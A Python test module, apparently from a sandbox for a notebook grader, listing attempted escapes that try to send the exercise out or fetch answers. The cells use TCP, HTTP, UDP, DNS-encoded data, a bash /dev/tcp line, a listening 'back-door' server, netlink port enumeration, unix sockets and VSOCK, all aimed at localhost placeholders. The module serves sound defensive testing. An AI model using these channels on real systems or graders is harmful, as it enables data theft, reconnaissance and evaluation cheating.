"""Talking to somebody: over the network, past it, or over a socket that is a file."""

from __future__ import annotations

from .attack import Attack, Off, accepted, says

NETWORK = "the network wall: a network of its own, with nobody in it"


def talking(name: str, mechanism: str, made: str, cell: str) -> Attack:
    return Attack(
        id=name,
        mechanism=mechanism,
        tries="to send the exercise out, or to fetch an answer",
        defence=NETWORK,
        off=Off(walls=("network",)),
        succeeded=accepted,
        cells=(cell,),
        made=(made,),
    )


NETWORKS = [
    talking(
        "tcp",
        "a TCP connection",
        "tcp",
        "import socket\nsocket.create_connection(('127.0.0.1', @PORT@), 2).sendall(b'hello')",
    ),
    talking(
        "http",
        "urllib posts the notebook to a server",
        "tcp",
        """
import urllib.request
try:
    urllib.request.urlopen("http://127.0.0.1:@PORT@/", data=b"answers", timeout=1)
except TimeoutError:
    pass
""",
    ),
    talking(
        "shell-tcp",
        "another program opens the connection: bash has /dev/tcp",
        "tcp",
        """
import subprocess
subprocess.run(["bash", "-c", "echo hello > /dev/tcp/127.0.0.1/@PORT@"])
""",
    ),
    talking(
        "tcp6",
        "a TCP connection over IPv6",
        "tcp6",
        "import socket\nsocket.create_connection(('::1', @PORT@), 2).sendall(b'hello')",
    ),
    talking(
        "udp",
        "one datagram, which needs no answer",
        "udp",
        """
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello", ("127.0.0.1", @PORT@))
""",
    ),
    talking(
        "dns",
        "a question to a name server carries the data in the name",
        "udp",
        """
import socket, struct
name = b"".join(bytes([len(p)]) + p for p in (b"predicted-8", b"example", b"org")) + b"\\0"
question = struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + name + struct.pack(">2H", 1, 1)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
    server.sendto(question, ("127.0.0.1", @PORT@))
""",
    ),
    talking(
        "abstract-socket",
        "a unix socket with an abstract name, which no file system hides",
        "abstract",
        """
import socket
with socket.socket(socket.AF_UNIX) as s:
    s.connect("\\0@NAME@")
    s.sendall(b"hello")
""",
    ),
    talking(
        "back-door",
        "a server in the notebook, for somebody outside who knocks",
        "door",
        """
import socket
with socket.create_server(("127.0.0.1", @PORT@)) as server:
    server.settimeout(1)
    try:
        with server.accept()[0] as guest:
            guest.sendall(b"come in")
    except TimeoutError:
        pass
""",
    ),
    Attack(
        id="socket-diagnosis",
        mechanism="netlink lists the sockets of the network, with their ports",
        tries="to learn what runs on the grader's machine",
        defence=NETWORK,
        off=Off(walls=("network",)),
        succeeded=lambda outcome, scene: f"PORT {scene.words['PORT']}." in outcome.printed,
        cells=(
            """
import socket, struct
NETLINK_SOCK_DIAG, SOCK_DIAG_BY_FAMILY, REQUEST_DUMP, LISTEN = 4, 20, 0x301, 1 << 10
body = struct.pack("=BBBBI", socket.AF_INET, socket.IPPROTO_TCP, 0, 0, LISTEN) + bytes(48)
with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_SOCK_DIAG) as s:
    s.settimeout(1)
    s.send(struct.pack("=IHHII", 16 + len(body), SOCK_DIAG_BY_FAMILY, REQUEST_DUMP, 1, 0) + body)
    done = False
    while not done:
        data = s.recv(1 << 16)
        while len(data) >= 16:
            size, kind = struct.unpack("=IH", data[:6])
            done = done or kind in (2, 3)
            if kind == SOCK_DIAG_BY_FAMILY:
                print(f"PORT {struct.unpack('>H', data[20:22])[0]}.")
            data = data[(size + 3) & ~3:]
""",
        ),
        made=("tcp",),
    ),
    Attack(
        id="file-socket",
        mechanism="a unix socket that is a file, as Docker and databases have one",
        tries="to talk to a service of the grader's machine",
        defence="the files wall: no folder with such a socket is mounted",
        off=Off(walls=("files",), shown=("@SOCKETS@",)),
        succeeded=accepted,
        cells=(
            """
import socket
with socket.socket(socket.AF_UNIX) as s:
    s.connect("@SOCKET@")
    s.sendall(b"hello")
""",
        ),
        made=("unix",),
    ),
    Attack(
        id="vsock",
        mechanism="a VSOCK socket, which belongs to no network namespace",
        tries="to reach the host of the virtual machine that the grader runs in",
        defence="the calls wall: other families of sockets are refused",
        off=Off(walls=("calls",)),
        succeeded=says("A VSOCK SOCKET"),
        # It is made and closed: whom it would reach is nobody's of this test.
        cells=(
            """
import socket
with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
    print("A VSOCK" + " SOCKET")
""",
        ),
    ),
]
